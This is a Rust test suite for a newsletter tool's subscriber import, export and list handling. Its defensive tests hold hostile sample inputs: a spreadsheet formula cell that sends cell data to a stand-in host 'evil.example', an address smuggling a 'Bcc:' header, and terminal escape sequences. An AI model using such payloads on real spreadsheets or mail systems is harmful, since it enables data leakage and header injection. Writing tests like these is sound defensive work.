//! `gazette subscribers …` and `gazette lists` through the real binary on the sample publication:
//! CSV import with bad rows reported by line (the header is line 1), `--strict`, one subscriber at
//! a time (`add`, `remove`, `remove --forget`), `list`, `export`, and the rule that neither an
//! import nor a list file ever brings back an address that left.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::support::{Publication, Run};

/// Line by line: 1 header · 2 good · 3 bad address · 4–5 a name with a line break (good, folded)
/// · 6–7 an address with a line break (bad, reported at its first line) · 8 a bad list name ·
/// 9 the address of line 2 again (the domain compared case-insensitively) · 10 good.
const ROWS: &[&str] = &[
    "email,name,lists,city",
    "ann@example.org,Ann,readers;news,Yerevan",
    "not-an-address,Bob,readers,",
    "\"eve@example.org\",\"Eve",
    "Smith\",readers,Paris",
    "\"mallory@example.org",
    "Bcc: victim@example.com\",Mal,readers,",
    "carl@example.org,Carl,bad list,",
    "ann@EXAMPLE.org,Ann again,,",
    "dan@example.org,Dan,,Oslo",
];
const BAD_LINES: [u64; 4] = [3, 6, 8, 9];

fn csv_text(line_end: &str) -> String {
    ROWS.iter().map(|r| format!("{r}{line_end}")).collect()
}

fn rejected_lines(doc: &Value) -> Vec<u64> {
    doc["rejected"]
        .as_array()
        .expect("rejected is an array")
        .iter()
        .map(|r| r["line"].as_u64().expect("line"))
        .collect()
}

fn counts(doc: &Value) -> (u64, u64, u64) {
    let n = |k: &str| doc[k].as_u64().unwrap_or_else(|| panic!("{k} missing in {doc:#}"));
    (n("imported"), n("updated"), n("unchanged"))
}

fn subscribers(p: &Publication, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["subscribers", "list", "--json"];
    all.extend_from_slice(args);
    p.gazette(&all).ok().json()["subscribers"].as_array().expect("subscribers is an array").clone()
}

fn emails(subs: &[Value]) -> BTreeSet<String> {
    subs.iter().map(|s| s["email"].as_str().expect("email").to_owned()).collect()
}

fn find<'a>(subs: &'a [Value], email: &str) -> &'a Value {
    subs.iter().find(|s| s["email"] == email).unwrap_or_else(|| panic!("{email} not in {subs:#?}"))
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

/// The rows of a CSV document, header first.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
        .collect()
}

fn import(p: &Publication, file: &str, extra: &[&str]) -> Run {
    let mut args = vec!["subscribers", "import", file, "--json"];
    args.extend_from_slice(extra);
    p.gazette(&args)
}

#[test]
fn import_reports_each_bad_row_by_line_and_imports_the_good_ones() {
    let p = Publication::sample();
    let file = p.write("people.csv", &csv_text("\n"));
    let file = file.to_str().expect("utf-8 path");

    let run = import(&p, file, &[]).ok();
    let doc = run.json();
    assert_eq!(counts(&doc), (3, 0, 0), "{doc:#}");
    assert_eq!(rejected_lines(&doc), BAD_LINES, "{doc:#}");
    let reasons: Vec<&str> =
        doc["rejected"].as_array().into_iter().flatten().filter_map(|r| r["reason"].as_str()).collect();
    assert!(reasons[0].contains("not-an-address"), "{reasons:?}");
    assert!(reasons[1].contains("line break") || reasons[1].contains("control"), "{reasons:?}");
    assert!(reasons[2].contains("bad list"), "{reasons:?}");
    assert!(reasons[3].contains("earlier"), "{reasons:?}");
    // Each bad row is also a warning naming FILE:LINE on stderr.
    for line in BAD_LINES {
        assert!(run.stderr().contains(&format!("people.csv:{line}:")), "line {line}:\n{}", run.stderr());
    }

    let subs = subscribers(&p, &[]);
    assert_eq!(emails(&subs), set(&["ann@example.org", "dan@example.org", "eve@example.org"]));
    assert!(!format!("{subs:?}").contains("victim"), "{subs:#?}");
    let ann = find(&subs, "ann@example.org");
    assert_eq!((ann["name"].as_str(), ann["status"].as_str()), (Some("Ann"), Some("active")));
    assert_eq!(ann["lists"], serde_json::json!(["news", "readers"]));
    assert_eq!(ann["attributes"]["city"], "Yerevan");
    // The line break in a name is folded away, never kept.
    assert_eq!(find(&subs, "eve@example.org")["name"], "Eve Smith");

    // The same file again changes nothing and says so.
    let again = import(&p, file, &[]).ok().json();
    assert_eq!(counts(&again), (0, 0, 3), "{again:#}");
    assert_eq!(rejected_lines(&again), BAD_LINES);

    // A changed attribute is an update; `--list` adds every row to that list too.
    let changed = p.write("changed.csv", "email,city\ndan@example.org,Bergen\n");
    let doc = import(&p, changed.to_str().expect("utf-8 path"), &["--list", "extra"]).ok().json();
    assert_eq!(counts(&doc), (0, 1, 0), "{doc:#}");
    assert_eq!(doc["rejected"], serde_json::json!([]));
    let dan = find(&subscribers(&p, &[]), "dan@example.org").clone();
    assert_eq!(dan["attributes"]["city"], "Bergen");
    assert_eq!(dan["name"], "Dan", "a file without a name column keeps the name");
    assert_eq!(dan["lists"], serde_json::json!(["extra"]));
}

/// The same file with CRLF line ends (what spreadsheets write) must report the same lines.
#[test]
fn import_of_a_crlf_file_reports_the_same_lines() {
    let p = Publication::sample();
    let file = p.write("people.csv", &csv_text("\r\n"));
    let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!(counts(&doc), (3, 0, 0), "{doc:#}");
    assert_eq!(rejected_lines(&doc), BAD_LINES, "{doc:#}");
}

#[test]
fn strict_import_imports_nothing_and_names_every_bad_row() {
    let p = Publication::sample();
    let file = p.write("people.csv", &csv_text("\n"));
    let file = file.to_str().expect("utf-8 path");

    let run = p.gazette(&["subscribers", "import", file, "--strict"]);
    assert_eq!(run.code(), 2, "{}{}", run.stdout(), run.stderr());
    for line in BAD_LINES {
        assert!(run.stderr().contains(&format!("people.csv:{line}:")), "line {line}:\n{}", run.stderr());
    }
    assert!(subscribers(&p, &[]).is_empty(), "nothing imported");

    let json = import(&p, file, &["--strict"]);
    assert_eq!(json.code(), 2);
    let error = &json.json()["error"];
    assert_eq!(error["line"], 3, "{error:#}");
    assert!(error["file"].as_str().is_some_and(|f| f.ends_with("people.csv")), "{error:#}");
    let message = error["message"].as_str().expect("message");
    for line in BAD_LINES {
        assert!(message.contains(&format!("people.csv:{line}:")), "line {line}: {message}");
    }
    assert!(subscribers(&p, &[]).is_empty(), "nothing imported");

    // Without a bad row, --strict imports.
    let good = p.write("good.csv", "email,name\nann@example.org,Ann\n");
    let doc = import(&p, good.to_str().expect("utf-8 path"), &["--strict"]).ok().json();
    assert_eq!(counts(&doc), (1, 0, 0), "{doc:#}");
}

/// Rows reach the store in chunks while the file is read: a bad row after thousands of good
/// ones must still leave nothing imported.
#[test]
fn strict_import_of_a_long_file_whose_last_row_is_bad_imports_nothing() {
    let p = Publication::sample();
    let mut text = String::from("email,name\n");
    for i in 0..9_000 {
        text.push_str(&format!("reader{i}@example.org,Reader {i}\n"));
    }
    text.push_str("not-an-address,Last\n");
    let file = p.write("long.csv", &text);
    let file = file.to_str().expect("utf-8 path");

    let run = p.gazette(&["subscribers", "import", file, "--strict"]);
    assert_eq!(run.code(), 2, "{}{}", run.stdout(), run.stderr());
    assert!(run.stderr().contains("long.csv:9002:"), "{}", run.stderr());
    assert!(subscribers(&p, &[]).is_empty(), "nothing imported");

    let doc = import(&p, file, &[]).ok().json();
    assert_eq!(counts(&doc), (9_000, 0, 0), "{doc:#}");
    assert_eq!(subscribers(&p, &[]).len(), 9_000);
}

#[test]
fn add_remove_forget_list_export_and_lists() {
    let p = Publication::sample();
    let added = p
        .gazette(&[
            "subscribers",
            "add",
            "Zoe@Example.ORG",
            "--name",
            "Zoe Z",
            "--list",
            "readers",
            "--list",
            "news",
            "--json",
        ])
        .ok()
        .json();
    let zoe = &added["subscriber"];
    assert_eq!(zoe["email"], "Zoe@example.org", "the domain is lowercased, the local part kept");
    assert_eq!((zoe["status"].as_str(), zoe["name"].as_str()), (Some("active"), Some("Zoe Z")));
    for (email, name) in [("ann@example.org", "Ann"), ("bob@example.org", "Bob")] {
        p.gazette(&["subscribers", "add", email, "--name", name, "--list", "readers"]).ok();
    }
    let bad = p.gazette(&["subscribers", "add", "not an address"]);
    assert_eq!(bad.code(), 2, "{}", bad.stderr());

    // remove: unsubscribed, still listed with that status; removing again changes nothing.
    let removed = p.gazette(&["subscribers", "remove", "ann@example.org", "--json"]).ok().json();
    assert_eq!(removed["changed"], true, "{removed:#}");
    let again = p.gazette(&["subscribers", "remove", "ann@example.org", "--json"]).ok().json();
    assert_eq!(again["changed"], false, "{again:#}");
    let unsubscribed = subscribers(&p, &["--status", "unsubscribed"]);
    assert_eq!(emails(&unsubscribed), set(&["ann@example.org"]));
    assert_eq!(emails(&subscribers(&p, &["--status", "active"])), set(&["Zoe@example.org", "bob@example.org"]));
    assert_eq!(emails(&subscribers(&p, &["--list", "news"])), set(&["Zoe@example.org"]));
    // `add` does not bring an address that left back either.
    let readd = p.gazette(&["subscribers", "add", "ann@example.org"]);
    assert_eq!(readd.code(), 2, "{}", readd.stderr());
    assert!(readd.stderr().contains("ann@example.org"), "{}", readd.stderr());

    // remove --forget: gone from list and export.
    let forgot = p.gazette(&["subscribers", "remove", "bob@example.org", "--forget", "--json"]).ok().json();
    assert_eq!((forgot["changed"].as_bool(), forgot["forgotten"].as_bool()), (Some(true), Some(true)), "{forgot:#}");
    assert_eq!(emails(&subscribers(&p, &[])), set(&["Zoe@example.org", "ann@example.org"]));

    let table = p.gazette(&["subscribers", "list", "--format", "csv"]).ok().stdout();
    let export = p.gazette(&["subscribers", "export"]).ok().stdout();
    for text in [&table, &export] {
        assert!(!text.contains("bob"), "{text}");
        let rows = csv_rows(text);
        assert_eq!(rows[0][..4], ["email", "name", "status", "lists"], "{text}");
        let mut body: Vec<Vec<String>> = rows[1..].to_vec();
        body.sort();
        assert_eq!(body.len(), 2, "{text}");
        assert_eq!(body[0][..4], ["Zoe@example.org", "Zoe Z", "active", "news;readers"], "{text}");
        assert_eq!(body[1][..4], ["ann@example.org", "Ann", "unsubscribed", "readers"], "{text}");
    }
    let unsub_csv = p.gazette(&["subscribers", "list", "--status", "unsubscribed", "--format", "csv"]).ok().stdout();
    assert_eq!(csv_rows(&unsub_csv).len(), 2, "header and ann: {unsub_csv}");

    // An import of both addresses that left brings neither back: reported as left alone.
    let file = p.write("back.csv", "email,name,lists\nann@example.org,Ann,readers\nbob@example.org,Bob,readers\n");
    let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!((doc["imported"].as_u64(), doc["updated"].as_u64()), (Some(0), Some(0)), "{doc:#}");
    assert_eq!(doc["refused"], 2, "{doc:#}");
    assert_eq!(doc["unchanged"], 2, "{doc:#}");
    assert_eq!(emails(&subscribers(&p, &[])), set(&["Zoe@example.org", "ann@example.org"]));
    assert_eq!(emails(&subscribers(&p, &["--status", "unsubscribed"])), set(&["ann@example.org"]));

    // lists: counts by status for each list.
    let lists = p.gazette(&["lists", "--json"]).ok().json();
    let by_name = |name: &str| -> Value {
        lists["lists"]
            .as_array()
            .and_then(|l| l.iter().find(|x| x["name"] == name))
            .unwrap_or_else(|| panic!("{name} in {lists:#}"))["counts"]
            .clone()
    };
    let readers = by_name("readers");
    assert_eq!((readers["active"].as_u64(), readers["unsubscribed"].as_u64()), (Some(1), Some(1)), "{lists:#}");
    for status in ["unconfirmed", "bounced", "complained"] {
        assert_eq!(readers[status], 0, "{lists:#}");
    }
    assert_eq!(by_name("news")["active"], 1, "{lists:#}");
}

#[test]
fn a_list_file_sync_never_brings_back_who_left() {
    let p = Publication::sample();
    // The sample's list file names ada, grace and ken; they are known before it is synced.
    let known = p.write("known.csv", "email,name\nada@example.org,Ada\ngrace@example.org,Grace\nken@example.net,Ken\n");
    let doc = import(&p, known.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!(counts(&doc), (3, 0, 0), "{doc:#}");
    p.gazette(&["subscribers", "remove", "grace@example.org"]).ok();
    p.gazette(&["subscribers", "remove", "ken@example.net", "--forget"]).ok();

    // `send` syncs the list file (which still names both) and delivers to the Maildir outbox.
    let sent = p.gazette(&["send", "--as-of", "2024-03-16", "--yes", "--json"]).ok().json();
    assert_eq!(sent["counts"]["sent"], 1, "{sent:#}");
    let outbox = p.path().join("outbox/new");
    let mut to = Vec::new();
    for entry in std::fs::read_dir(&outbox).expect("outbox/new exists") {
        let raw = std::fs::read(entry.expect("entry").path()).expect("read message");
        let msg = mail_parser::MessageParser::default().parse(&raw).expect("mime");
        let addresses = msg.to().expect("To");
        to.extend(addresses.iter().filter_map(|a| a.address()).map(str::to_owned));
    }
    assert_eq!(to, ["ada@example.org"], "nothing for grace (unsubscribed) or ken (forgotten)");

    assert_eq!(emails(&subscribers(&p, &["--status", "unsubscribed"])), set(&["grace@example.org"]));
    assert_eq!(emails(&subscribers(&p, &["--status", "active"])), set(&["ada@example.org"]));
    assert_eq!(emails(&subscribers(&p, &[])), set(&["ada@example.org", "grace@example.org"]), "ken stays forgotten");
}

/// What others typed reaches the publisher's screen and spreadsheet harmlessly: no formula
/// starts a CSV cell, no control character reaches the terminal, and an export imports back.
#[test]
fn exports_never_start_a_formula_and_tables_never_carry_control_characters() {
    let p = Publication::sample();
    let file = p.write(
        "hostile.csv",
        "email,name,lists,note\n\
         ann@example.org,=HYPERLINK(\"http://evil.example/?\"&A2),readers,+1\n\
         bob@example.org,@SUM(1+1),readers,-2\n\
         -carl@example.org,Carl,readers,ok\n",
    );
    let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!(doc["imported"], 3, "{doc:#}");
    for args in [&["subscribers", "export"][..], &["subscribers", "list", "--format", "csv"][..]] {
        let text = p.gazette(args).ok().stdout();
        for row in csv_rows(&text) {
            for cell in row {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?} in\n{text}");
            }
        }
    }
    // The guard is undone on the way back in: the export, imported again, means what it said.
    let export = p.gazette(&["subscribers", "export"]).ok().stdout();
    let again = p.write("again.csv", &export);
    let doc = import(&p, again.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!(doc["imported"], 0, "{doc:#}");
    assert_eq!(rejected_lines(&doc), Vec::<u64>::new(), "{doc:#}");
    let all = subscribers(&p, &[]);
    assert_eq!(find(&all, "ann@example.org")["name"], "=HYPERLINK(\"http://evil.example/?\"&A2)");
    assert_eq!(find(&all, "bob@example.org")["attributes"]["note"], "-2");
    assert_eq!(find(&all, "-carl@example.org")["name"], "Carl");
    assert!(find(&all, "ann@example.org")["attributes"].get("status").is_none(), "export's status is no attribute");

    // A control character never gets in by any edge, and a name already stored with one (from an
    // older version) is shown escaped.
    let bad = p.gazette(&["subscribers", "add", "dan@example.org", "--name", "Dan\u{1b}[2J"]);
    assert_eq!(bad.code(), 2, "{}", bad.stderr());
    assert!(bad.stderr().contains("U+001B"), "{}", bad.stderr());
    let conn =
        edit_store(&p, "UPDATE subscribers SET name = 'Ann' || char(27) || '[31mRED' WHERE email = 'ann@example.org'");
    assert!(conn, "the store was updated");
    let table = p.gazette(&["subscribers", "list"]).ok().stdout();
    assert!(!table.contains('\u{1b}'), "{table:?}");
    assert!(table.contains("Ann\\u{1b}[31mRED"), "{table}");
}

/// Runs one statement on the publication's SQLite store directly: the
/// way an older version (or a hand edit) could have left a value.
pub fn edit_store(p: &Publication, sql: &str) -> bool {
    let url = format!("sqlite://{}", p.path().join("gazette.db").display());
    let sql = sql.to_owned();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
        rt.block_on(async move {
            use sqlx::Connection;
            let mut conn = sqlx::SqliteConnection::connect(&url).await.expect("open the store");
            sqlx::query(sqlx::AssertSqlSafe(sql)).execute(&mut conn).await.expect("update").rows_affected() == 1
        })
    })
    .join()
    .expect("thread")
}

/// A NUL in a name is that row's error, named by its line, on PostgreSQL as on SQLite; the
/// other rows are imported.
#[test]
fn a_nul_in_a_name_is_its_rows_error_on_postgresql() {
    let db = crate::postgres::TestDatabase::create();
    let p = Publication::sample();
    let config = std::fs::read_to_string(p.path().join("gazette.toml")).expect("config");
    let config = config.replace("[storage]\ndatabase_url = \"sqlite://gazette.db\"\n", "");
    p.write("gazette.toml", &format!("{config}\n[storage]\ndatabase_url = {:?}\n", db.url()));
    let file = p.write(
        "nul.csv",
        "email,name,lists\nann@example.org,Ann,readers\nnul@example.org,Nu\0ll,readers\nbob@example.org,Bob,readers\n",
    );
    let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!(rejected_lines(&doc), [3], "{doc:#}");
    assert!(doc["rejected"][0]["reason"].as_str().is_some_and(|r| r.contains("name")), "{doc:#}");
    assert_eq!(doc["imported"], 2, "{doc:#}");
    assert_eq!(emails(&subscribers(&p, &[])), set(&["ann@example.org", "bob@example.org"]));
    let strict = import(&p, file.to_str().expect("utf-8 path"), &["--strict"]);
    assert_eq!(strict.code(), 2, "{}", strict.stdout());
}

/// `weekly` is kept by `subscribers/weekly.csv`, synced before each send: an import or an `add`
/// into it would be undone at the next send, so it is refused before anything is written, with
/// what to do instead; a row whose `lists` names it is that row's error.
#[test]
fn adding_to_a_list_that_a_file_keeps_is_refused() {
    let p = Publication::sample();
    let file = p.write("readers.csv", "email,name\nann@example.org,Ann\nbob@example.org,Bob\n");
    let file = file.to_str().expect("utf-8 path");

    let run = p.gazette(&["subscribers", "import", file, "--list", "weekly"]);
    assert_eq!(run.code(), 2, "{}{}", run.stdout(), run.stderr());
    for needle in ["weekly", "subscribers/weekly.csv", "add them to that file", "a list without a file"] {
        assert!(run.stderr().contains(needle), "{needle}: {}", run.stderr());
    }
    let json = import(&p, file, &["--list", "weekly"]);
    assert_eq!(json.code(), 2);
    assert_eq!(json.json()["error"]["field"], "--list", "{}", json.stdout());
    assert!(subscribers(&p, &[]).is_empty(), "nothing imported");

    let add = p.gazette(&["subscribers", "add", "ann@example.org", "--list", "readers", "--list", "weekly"]);
    assert_eq!(add.code(), 2, "{}{}", add.stdout(), add.stderr());
    assert!(add.stderr().contains("subscribers/weekly.csv"), "{}", add.stderr());
    assert!(subscribers(&p, &[]).is_empty(), "nothing added");

    // Row by row: the row naming `weekly` is refused by its line, the others go in.
    let mixed = p.write("mixed.csv", "email,lists\nann@example.org,readers\nbob@example.org,readers;weekly\n");
    let doc = import(&p, mixed.to_str().expect("utf-8 path"), &[]).ok().json();
    assert_eq!(counts(&doc), (1, 0, 0), "{doc:#}");
    assert_eq!(rejected_lines(&doc), [3], "{doc:#}");
    assert!(doc["rejected"][0]["reason"].as_str().is_some_and(|r| r.contains("weekly.csv")), "{doc:#}");
    assert_eq!(emails(&subscribers(&p, &[])), set(&["ann@example.org"]));
}

/// When every list the publication sends to is kept by a file, rows that name no list reach
/// nobody's issue: the import says so, on stderr and in its JSON.
#[test]
fn an_import_onto_no_list_says_no_issue_reaches_it() {
    let p = Publication::sample();
    let config = std::fs::read_to_string(p.path().join("gazette.toml")).expect("config");
    p.write("gazette.toml", &config.replace("lists = [\"weekly\", \"readers\"]", "lists = [\"weekly\"]"));
    let file = p.write("readers.csv", "email,name,lists\nann@example.org,Ann,\nbob@example.org,Bob,news\n");
    let run = import(&p, file.to_str().expect("utf-8 path"), &[]).ok();
    let doc = run.json();
    assert_eq!(counts(&doc), (2, 0, 0), "{doc:#}");
    assert_eq!(doc["unlisted"], 1, "{doc:#}");
    let warnings = doc["warnings"].to_string();
    assert!(warnings.contains("1 row") && warnings.contains("subscribers/weekly.csv"), "{doc:#}");
    assert!(run.stderr().contains("no issue reaches them"), "{}", run.stderr());
}

/// A list file's bad rows are told at the send after the file changes, not at every send.
#[test]
fn a_list_files_bad_rows_are_warned_once_per_change() {
    let p = Publication::sample();
    let file = "email,name\nada@example.org,Ada\nnot-an-address,Bob\n";
    p.write("subscribers/weekly.csv", file);
    let send = || p.gazette(&["send", "--as-of", "2024-03-16", "--yes"]).ok().stderr();
    assert!(send().contains("weekly.csv:3:"), "the first send tells");
    assert!(!send().contains("weekly.csv:3:"), "the same file again: told already");
    let dry = p.gazette(&["send", "--as-of", "2024-03-16", "--dry-run"]).ok().stderr();
    assert!(dry.contains("weekly.csv:3:"), "a dry run always shows them: {dry}");
    p.write("subscribers/weekly.csv", &format!("{file}grace@example.org,Grace\n"));
    assert!(send().contains("weekly.csv:3:"), "a changed file tells again");
    assert!(!send().contains("weekly.csv:3:"));
}
